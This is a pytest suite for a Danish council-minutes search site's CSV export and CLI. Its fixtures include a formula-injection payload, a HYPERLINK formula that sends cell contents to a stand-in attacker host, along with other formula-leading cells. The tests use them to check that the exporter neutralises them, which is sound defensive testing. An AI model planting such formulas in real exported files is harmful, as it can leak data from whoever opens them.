"""A search as a spreadsheet: `/api/search.csv`, the search page's link to it, `referatsog search --csv`."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.conftest import SEEDS, run, soup

from webui import create_app, exports

HEADER = ["id", "titel", "dokumenttype", "kommune", "råd/udvalg", "mødedato", "år", "periode", "punkt", "sagsnr",
          "sagsbehandler", "emner", "beslutning", "udfald", "beslutningsdato", "lukket punkt", "kilde", "side i PDF",
          "citat", "link", "erstattet_af"]  # new columns only at the end: scripts read by position
BASE = "https://referater.example.dk/sog"


def rows_of(data: bytes) -> list[dict[str, str]]:
    """A CSV download's rows as dicts; it must start with a BOM and have the header row."""
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert header == HEADER
    return [dict(zip(header, cells, strict=True)) for cells in reader]


def api_hits(client, **params) -> tuple[int, list[dict]]:
    """Every hit of `/api/search` with `params`, all pages, and its total."""
    hits, page = [], 1
    while True:
        body = client.get("/api/search", query_string={**params, "page": page, "page_size": 7}).get_json()
        hits += body["hits"]
        if page >= body["pages"]:
            return body["total"], hits
        page += 1


@pytest.fixture
def small_pages(monkeypatch):
    """The engine's pages of 3 hits, so the seeds' few hits are fetched over many pages."""
    monkeypatch.setattr(exports, "MAX_PAGE_SIZE", 3)


@pytest.mark.parametrize("params", [
    {},
    {"q": "flygtninge"},
    {"q": "flygtninge", "sort": "oldest"},
    {"q": "integration", "sort": "newest", "decisions_only": "1"},
    {"municipality": "Næstved", "from": "2015", "to": "2017"},
])
def test_the_rows_are_the_api_s_hits_in_its_order_over_many_engine_pages(client, small_pages, params):
    total, hits = api_hits(client, **params)
    answer = client.get("/api/search.csv", query_string=params)
    assert answer.status_code == 200
    rows = rows_of(answer.data)
    assert total > 0 or not params.get("q")
    assert [r["id"] for r in rows] == [h["id"] for h in hits]
    assert len(rows) == total
    for r, h in zip(rows, hits):
        assert (r["titel"], r["kommune"], r["råd/udvalg"], r["mødedato"], r["citat"], r["kilde"]) == (
            h["title"], h["municipality"] or "", h["council"] or "", h["meeting_date"] or "", h["citation"], h["source"])
        assert r["emner"] == "; ".join(h["topics"])
        assert r["link"] == "http://localhost" + h["links"]["html"]
    assert exports.TRUNCATED_HEADER not in answer.headers


def test_the_answer_is_a_utf8_download_with_a_bom_and_danish_letters_intact(client):
    answer = client.get("/api/search.csv", query_string={"q": "flygtninge", "municipality": "Næstved"})
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == (
        "attachment; filename=\"referatsog-naestved-flygtninge.csv\"; "
        "filename*=UTF-8''referatsog-n%C3%A6stved-flygtninge.csv")
    assert answer.data.startswith("\ufeffid,titel,dokumenttype,kommune,råd/udvalg,mødedato".encode())
    assert answer.data.count(b"\r\n") >= 2  # RFC 4180 line ends
    rows = rows_of(answer.data)
    assert {r["kommune"] for r in rows} == {"Næstved"}
    assert any("Integrationsrådet" == r["råd/udvalg"] for r in rows)
    assert all(r["dokumenttype"] in ("Referat", "Årsberetning", "Dagsorden") for r in rows)


def test_the_file_name_is_ascii_safe_and_says_the_query_in_utf8_too(client):
    answer = client.get("/api/search.csv", query_string={"q": 'Ældre "boliger"/Næstved\r\n'})
    disposition = answer.headers["Content-Disposition"]
    assert disposition.isascii()
    # no item has all three words: the hits are approximate, and the name says so
    assert client.get("/api/search", query_string={"q": 'Ældre "boliger"/Næstved\r\n'}).get_json()["approximate"]
    assert 'filename="referatsog-aeldre-boliger-naestved-omtrentlig.csv"' in disposition
    assert "filename*=UTF-8''referatsog-%C3%A6ldre-boliger-n%C3%A6stved-omtrentlig.csv" in disposition
    everything = client.get("/api/search.csv")
    assert 'filename="referatsog-alle-punkter.csv"' in everything.headers["Content-Disposition"]


def file_name(client, **params) -> str:
    disposition = client.get("/api/search.csv", query_string=params).headers["Content-Disposition"]
    return re.search(r'filename="([^"]*)"', disposition).group(1)


def test_the_file_name_says_the_filters_and_an_excluded_word_as_excluded(client):
    assert file_name(client, q="flygtninge", municipality="Næstved") == "referatsog-naestved-flygtninge.csv"
    assert file_name(client, municipality="Næstved", year="2015") == "referatsog-naestved-2015.csv"
    assert file_name(client, q="-flygtninge") == "referatsog-uden-flygtninge.csv"
    assert file_name(client, q="integration NOT flygtninge") == "referatsog-integration-uden-flygtninge.csv"
    # a long query is cut after a whole word, the name stays short and ASCII
    long = file_name(client, q=" ".join(["integrationsrådet"] * 20))
    assert long.isascii() and long.startswith("referatsog-integrationsraadet-") and long.endswith("raadet.csv")
    assert len(long) <= len("referatsog-.csv") + exports.NAME_MAX + 10  # æøå written as two letters


@pytest.mark.parametrize("query", ["boligg", "flygtnige"])
def test_approximate_rows_are_flagged_in_a_header_the_file_name_and_the_page_s_link(client, query):
    assert client.get("/api/search", query_string={"q": query}).get_json()["approximate"]
    answer = client.get("/api/search.csv", query_string={"q": query})
    assert rows_of(answer.data)
    assert answer.headers[exports.APPROXIMATE_HEADER] == "1"
    assert exports.APPROXIMATE_HEADER in answer.headers["Access-Control-Expose-Headers"]
    assert f'filename="referatsog-{query}-omtrentlig.csv"' in answer.headers["Content-Disposition"]
    assert soup(client.get("/", query_string={"q": query})).select_one("a.csv-link").get_text() == (
        "Hent de omtrentlige resultater som CSV")


def test_exact_rows_are_not_flagged_approximate(client, monkeypatch):
    answer = client.get("/api/search.csv", query_string={"q": "flygtninge"})
    assert exports.APPROXIMATE_HEADER not in answer.headers
    assert "omtrentlig" not in answer.headers["Content-Disposition"]
    assert soup(client.get("/", query_string={"q": "flygtninge"})).select_one("a.csv-link").get_text() == "Hent som CSV"
    monkeypatch.setattr(exports, "CSV_MAX_ROWS", 2)  # approximate and beyond the cap: both said
    assert exports.link_label(3, approximate=True) == "Hent de første 2 omtrentlige resultater som CSV"


def test_a_filter_narrows_the_rows(client):
    every = rows_of(client.get("/api/search.csv", query_string={"q": "flygtninge"}).data)
    narrowed = rows_of(client.get("/api/search.csv", query_string={"q": "flygtninge", "year": "2015"}).data)
    assert 0 < len(narrowed) < len(every)
    assert {r["år"] for r in narrowed} == {"2015"}
    assert {r["id"] for r in narrowed} < {r["id"] for r in every}


def test_the_decision_is_whole_and_plain_not_the_hit_s_first_lines(client):
    rows = rows_of(client.get("/api/search.csv", query_string={"q": "flygtninge"}).data)
    hits = {h["id"]: h for h in api_hits(client, q="flygtninge")[1]}
    longer = 0
    for r in rows:
        document = client.get(f"/api/document/{hits[r['id']]['document_id']}").get_json()
        whole = next(p["decision"] for p in document["passages"] if p["id"] == r["id"])
        assert r["beslutning"] == exports.guarded(whole)  # whole, a line's formula start guarded
        assert "<mark>" not in r["beslutning"]
        longer += len(whole) > len(hits[r["id"]]["decision"])
    assert longer, "some decision is longer than a hit shows: the CSV must have it whole"


def test_a_bad_parameter_is_answered_as_the_api_answers_it(client):
    for params in ({"year": "abc"}, {"sort": "bedste"}, {"from": "igår"}, {"q": "x" * 501}):
        csv_answer = client.get("/api/search.csv", query_string=params)
        json_answer = client.get("/api/search", query_string=params)
        assert csv_answer.status_code == json_answer.status_code == 400
        assert csv_answer.headers["Content-Type"] == json_answer.headers["Content-Type"]
        assert csv_answer.get_json() == json_answer.get_json()
        assert csv_answer.get_json()["message"]  # Danish, said by the engine
    # the paging it ignores is no error, as the feed ignores it
    assert client.get("/api/search.csv", query_string={"page": "abc", "page_size": "0"}).status_code == 200


def test_it_revalidates_with_its_etag_as_the_api_does(client):
    first = client.get("/api/search.csv", query_string={"q": "flygtninge"})
    assert first.headers["Cache-Control"] == "no-cache" and first.headers["ETag"]
    again = client.get("/api/search.csv", query_string={"q": "flygtninge"},
                       headers={"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304 and not again.data
    other = client.get("/api/search.csv", query_string={"q": "integration"})
    assert other.headers["ETag"] != first.headers["ETag"]


def test_a_search_beyond_the_cap_says_so_in_a_header_and_on_the_page(client, monkeypatch):
    total, hits = api_hits(client)
    monkeypatch.setattr(exports, "CSV_MAX_ROWS", 4)
    answer = client.get("/api/search.csv")
    rows = rows_of(answer.data)
    assert [r["id"] for r in rows] == [h["id"] for h in hits[:4]]
    assert answer.headers[exports.TRUNCATED_HEADER] == f"4 af {total}"
    page = soup(client.get("/"))
    assert page.select_one("a.csv-link").get_text() == "Hent de første 4 som CSV"


# Minutes whose decision, case handler and title a spreadsheet would run as formulas.
HOSTILE_MINUTES = """Tornby Kommune

Referat

Socialudvalget

Mødedato: 12.03.2018

1. Godkendelse af regnskab
Sagsnr.: 18/1021
Sagsbehandler: @Mette Jung

Sagsfremstilling
Regnskabet for 2017 forelægges.

Beslutning
=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")

2. Eventuelt
Sagsnr.: 18/1022

Beslutning
Godkendt.
"""


def minutes_site(tmp_path, text: str):
    """A site of one minutes file, `text`."""
    from indexer.update import update_index

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "tornby-socialudvalget-referat-2018-03-12.txt").write_text(text, encoding="utf-8")
    report = update_index([corpus], tmp_path / "index")
    assert not report.skipped, report.skipped
    return create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "index"),
                       "CORPUS_DIR": str(corpus)}).test_client()


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_an_apostrophe(tmp_path):
    client = minutes_site(tmp_path, HOSTILE_MINUTES)
    rows = {r["titel"]: r for r in rows_of(client.get("/api/search.csv").data)}
    hostile = rows["Godkendelse af regnskab"]
    assert hostile["beslutning"] == "'=HYPERLINK(\"http://angriber.example/?d=\"&A1,\"Klik her\")"
    assert hostile["sagsbehandler"] == "'@Mette Jung"
    assert rows["Eventuelt"]["beslutning"] == "Godkendt."  # text that is no formula is left alone
    # no cell of the file starts a formula
    for r in rows.values():
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r.values())


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+45 12 34", "'+45 12 34"), ("-bolig", "'-bolig"), ("@navn", "'@navn"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r'=1"), ("  =1", "'  =1"), ("\uff1d1", "'\uff1d1"),
    ("Godkendt = vedtaget", "Godkendt = vedtaget"), ("2015-05-21", "2015-05-21"), ("", ""),
])
def test_guarded_cells(cell, shown):
    assert exports.guarded(cell) == shown


def semicolon_cells(text: str) -> list[str]:
    """Every cell a reader that splits on semicolons sees, as Danish Excel opens a CSV on a
    double-click: a quote counts only at a cell's start ("" in it is one quote, text after its
    closing quote is kept), a line break outside quotes ends the row."""
    cells, at = [], 0
    while at < len(text):
        cell = ""
        if text[at] == '"':
            at += 1
            while at < len(text):
                if text[at] == '"' and text[at + 1:at + 2] == '"':
                    cell, at = cell + '"', at + 2
                elif text[at] == '"':
                    at += 1
                    break
                else:
                    cell, at = cell + text[at], at + 1
        while at < len(text) and text[at] not in ";\r\n":
            cell, at = cell + text[at], at + 1
        cells.append(cell)
        at += 1
    return cells


FORMULA = re.compile(r'[ \t\u00a0"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]')

# A decision a semicolon splits into cells, one of them a formula, also after a quote and on a
# line of its own.
SEMICOLON_MINUTES = HOSTILE_MINUTES.replace(
    '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")',
    'Godkendt;=1+1;flygtninge; "=HYPERLINK(""http://angriber.example"")"; \uff0b1;\t@SUM(A1)\n\n'
    '- -2+3 stemte for\n- =1+1 imod\n\nEnig; 5 stemte for')


def test_no_cell_a_semicolon_splitting_reader_sees_starts_a_formula(tmp_path):
    client = minutes_site(tmp_path, SEMICOLON_MINUTES)
    data = client.get("/api/search.csv").data
    decision = {r["titel"]: r for r in rows_of(data)}["Godkendelse af regnskab"]["beslutning"]
    assert decision.startswith("Godkendt;'=1+1;flygtninge;' \"=HYPERLINK(")
    assert ";' +1;' @SUM(A1)\n\n'- -2+3 stemte for\n'- =1+1 imod\n\nEnig; 5 stemte for" in decision
    seen = semicolon_cells(data[3:].decode("utf-8"))
    assert "flygtninge" in seen and "'- =1+1 imod" in seen  # split on semicolons and line breaks
    assert [cell for cell in seen if FORMULA.match(cell)] == []


@pytest.mark.parametrize(("cell", "shown"), [
    ("Godkendt;=1+1;flygtninge", "Godkendt;'=1+1;flygtninge"), ('a; "=1"', 'a;\' "=1"'), ("a;-5 kr.", "a;'-5 kr."),
    ("a;\uff1d1", "a;'\uff1d1"), ("a;\t+1", "a;'\t+1"), ("a\n@b", "a\n'@b"), ("a\r\n=1", "a\r\n'=1"),
    ("=1;=2", "'=1;'=2"), ("Godkendt; 5 for", "Godkendt; 5 for"), ("a;b", "a;b"), ("a;", "a;"),
])
def test_guarded_cells_after_a_semicolon_or_line_break(cell, shown):
    assert exports.guarded(cell) == shown


def test_a_cell_longer_than_excel_takes_is_cut_with_a_mark(tmp_path):
    long_decision = "Godkendt. " + "Udvalget drøftede sagen grundigt. " * 1100  # 37,000+ characters
    client = minutes_site(tmp_path, HOSTILE_MINUTES.replace(
        '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")', long_decision))
    rows = {r["titel"]: r for r in rows_of(client.get("/api/search.csv").data)}
    cell = rows["Godkendelse af regnskab"]["beslutning"]
    passage = client.get("/api/passage/" + rows["Godkendelse af regnskab"]["id"]).get_json()
    document = client.get(f"/api/document/{passage['document_id']}").get_json()
    whole = next(p["decision"] for p in document["passages"] if p["id"] == passage["id"])
    assert len(whole) > exports.CELL_MAX  # the index has it whole: the CSV cuts it
    assert len(cell) == exports.CELL_MAX and cell.endswith("[…]")
    assert whole.startswith(cell.removesuffix(" […]"))
    assert rows["Eventuelt"]["beslutning"] == "Godkendt."


def test_fitted_counts_as_excel_counts():
    assert exports.fitted("x" * exports.CELL_MAX) == "x" * exports.CELL_MAX
    astral = exports.fitted("\U0001F600" * 20000)  # two UTF-16 units each in Excel
    assert astral.endswith(" […]") and len(astral.encode("utf-16-le")) // 2 <= exports.CELL_MAX


def test_the_search_page_links_the_csv_of_its_own_search(client):
    params = {"q": "flygtninge", "municipality": "Næstved", "decisions_only": "1", "sort": "oldest",
              "from": "2015", "to": "2017-12-31", "page": "1", "page_size": "5", "all_values": "topic"}
    page = soup(client.get("/", query_string=params))
    link = page.select_one("a.csv-link")
    assert link.get_text() == "Hent som CSV" and link["type"] == "text/csv"
    url = urlsplit(link["href"])
    assert url.path == "/api/search.csv" and not url.netloc  # nothing from another host
    assert parse_qs(url.query) == {"q": ["flygtninge"], "municipality": ["Næstved"], "decisions_only": ["1"],
                                   "sort": ["oldest"], "from": ["2015-01-01"], "to": ["2017-12-31"]}
    # beside the page's JSON and feed links, and it answers the page's hits
    footer = " ".join(a.get_text() for a in link.parent.find_all("a"))
    assert "Denne søgning som JSON" in footer and "Atom-feed" in footer
    rows = rows_of(client.get(link["href"]).data)
    assert [r["id"] for r in rows] == [h["id"] for h in api_hits(client, **{
        k: v for k, v in params.items() if k not in ("page", "page_size", "all_values")})[1]]
    assert rows and all(r["kommune"] == "Næstved" for r in rows)


def test_the_page_of_a_bad_parameter_still_links_a_csv_that_works(client):
    answer = client.get("/", query_string={"q": "flygtninge", "year": "abc"})
    assert answer.status_code == 400
    link = soup(answer).select_one("a.csv-link")
    assert link is not None
    assert client.get(link["href"]).status_code == 200


@pytest.fixture
def site(seed_index_dir):
    """The site on a public address, as `referatsog search --csv` writes links with REFERATSOG_BASE_URL."""
    return create_app({"TESTING": True, "INDEX_DIR": str(seed_index_dir), "CORPUS_DIR": str(SEEDS),
                       "BASE_URL": BASE}).test_client()


@pytest.mark.parametrize(("options", "params"), [
    (("flygtninge",), {"q": "flygtninge"}),
    (("", "--sort", "nyeste", "--municipality", "Næstved", "--from", "2015"),
     {"sort": "newest", "municipality": "Næstved", "from": "2015"}),
    (("integration", "--decisions-only", "--year", "2015", "--year", "2017"),
     {"q": "integration", "decisions_only": "1", "year": ["2015", "2017"]}),
])
def test_the_cli_writes_the_downloads_bytes(runner, site, seed_index_dir, options, params):
    result = run(runner, "search", *options, "--csv", "--index-dir", seed_index_dir,
                 env={"REFERATSOG_BASE_URL": BASE})
    assert result.exit_code == 0, result.output
    download = site.get("/api/search.csv", query_string=params)
    assert download.status_code == 200
    rows = rows_of(result.stdout_bytes)
    assert rows and rows == rows_of(download.data)
    assert result.stdout_bytes == download.data
    assert all(r["link"].startswith(BASE + "/passage/") for r in rows)


def test_the_cli_with_limit_gives_that_page_and_without_a_base_url_root_relative_links(runner, seed_index_dir, client):
    result = run(runner, "search", "flygtninge", "--csv", "--limit", "2", "--page", "2",
                 "--index-dir", seed_index_dir, env={"REFERATSOG_BASE_URL": ""})
    assert result.exit_code == 0, result.output
    rows = rows_of(result.stdout_bytes)
    hits = client.get("/api/search", query_string={"q": "flygtninge", "page_size": 2, "page": 2}).get_json()["hits"]
    assert [r["id"] for r in rows] == [h["id"] for h in hits]
    assert [r["link"] for r in rows] == [h["links"]["html"] for h in hits]


def test_the_cli_says_on_stderr_when_the_cap_cut_the_rows(runner, seed_index_dir, monkeypatch):
    monkeypatch.setattr(exports, "CSV_MAX_ROWS", 3)
    result = run(runner, "search", "", "--csv", "--index-dir", seed_index_dir)
    assert result.exit_code == 0
    assert len(rows_of(result.stdout_bytes)) == 3
    assert result.stderr.startswith("Advarsel: CSV'en har de første 3 af ") and "(højst 3 i én fil)" in result.stderr


def test_csv_and_json_together_are_refused_with_one_danish_line(runner, seed_index_dir):
    result = run(runner, "search", "flygtninge", "--csv", "--json", "--index-dir", seed_index_dir)
    assert (result.exit_code, result.output) == (2, "Fejl: --csv og --json kan ikke bruges sammen – vælg ét af dem.\n")


def test_on_a_terminal_the_cli_writes_text_without_the_bom(runner, seed_index_dir, monkeypatch):
    from indexer import cli

    monkeypatch.setattr(cli, "_is_terminal", lambda: True)
    result = run(runner, "search", "flygtninge", "--csv", "--index-dir", seed_index_dir)
    assert result.exit_code == 0
    assert result.stdout.startswith("id,titel,") and "\ufeff" not in result.stdout
    assert len(list(csv.reader(io.StringIO(result.stdout, newline="")))) > 1


def test_no_file_of_the_seeds_is_left_outside_the_export(client):
    # every item of the index is a row of the search for everything (no cap reached)
    rows = rows_of(client.get("/api/search.csv").data)
    sources = {r["kilde"] for r in rows}
    assert sources == {p.name for p in Path(SEEDS).iterdir() if p.is_file()}


def test_the_cli_says_on_stderr_when_the_rows_are_approximate(runner, seed_index_dir):
    approximate = run(runner, "search", "flygtnige", "--csv", "--index-dir", seed_index_dir)
    assert approximate.exit_code == 0 and "omtrentlige resultater" in approximate.stderr
    assert "omtrentlige" not in approximate.stdout and approximate.stdout.count("\n") > 1  # the CSV stays a CSV
    exact = run(runner, "search", "flygtninge", "--csv", "--index-dir", seed_index_dir)
    assert "omtrentlige" not in exact.stderr


# Minutes of one meeting: item 1 is corrected in a copy indexed later («…-rettet.txt»).
VERSIONED_MINUTES = """Tornby Kommune

Referat

Socialudvalget

Mødedato: 12.03.2018

1. Boligplacering af flygtninge
Sagsnr.: 18/1031

Sagsfremstilling
Kommunen skal boligplacere 40 flygtninge i 2018.

Beslutning
Godkendt.

2. Eventuelt
Sagsnr.: 18/1032

Beslutning
Taget til efterretning.
"""


def corrected_site(tmp_path, monkeypatch):
    """The minutes, then an hour later their corrected copy, whose item 1 was decided otherwise."""
    import search.index_writer
    from indexer.update import update_index

    client = minutes_site(tmp_path, VERSIONED_MINUTES)
    later = search.index_writer.utc_now() + 3600
    monkeypatch.setattr(search.index_writer, "utc_now", lambda: later)
    (tmp_path / "corpus" / "tornby-socialudvalget-referat-2018-03-12-rettet.txt").write_text(
        VERSIONED_MINUTES.replace("Godkendt.", "Sendt tilbage til forvaltningen."), encoding="utf-8")
    assert not update_index([tmp_path / "corpus"], tmp_path / "index").skipped
    return client


@pytest.mark.parametrize("params", [{}, {"sort": "oldest"}, {"q": "boligplacering"}])
def test_a_superseded_version_names_the_version_that_replaced_it_in_the_last_column(tmp_path, monkeypatch, params):
    """Corrected minutes beside the first: two rows of item 1 that decide differently, and the last
    column says which one a later version replaced, whatever else the search found."""
    client = corrected_site(tmp_path, monkeypatch)
    rows = rows_of(client.get("/api/search.csv", query_string=params).data)
    assert list(rows[0])[:-1] == list(exports.COLUMNS[:-1]) and list(rows[0])[-1] == "erstattet_af"
    versions = {r["kilde"]: r for r in rows if r["titel"] == "Boligplacering af flygtninge"}
    old, new = versions["tornby-socialudvalget-referat-2018-03-12.txt"], \
        versions["tornby-socialudvalget-referat-2018-03-12-rettet.txt"]
    assert (old["beslutning"], new["beslutning"]) == ("Godkendt.", "Sendt tilbage til forvaltningen.")
    assert old["erstattet_af"] == new["id"] and new["erstattet_af"] == ""
    # item 2 is the same in both files: one row, a copy, no version
    assert [r["erstattet_af"] for r in rows if r["titel"] == "Eventuelt"] == ([] if "q" in params else [""])


def test_the_cli_csv_names_the_later_version_too(tmp_path, monkeypatch, runner):
    corrected_site(tmp_path, monkeypatch)
    result = run(runner, "search", "boligplacering", "--csv", "--index-dir", str(tmp_path / "index"))
    rows = list(csv.DictReader(io.StringIO(result.output.lstrip("\ufeff"))))
    by_source = {r["kilde"]: r for r in rows}
    assert by_source["tornby-socialudvalget-referat-2018-03-12.txt"]["erstattet_af"] == \
        by_source["tornby-socialudvalget-referat-2018-03-12-rettet.txt"]["id"]
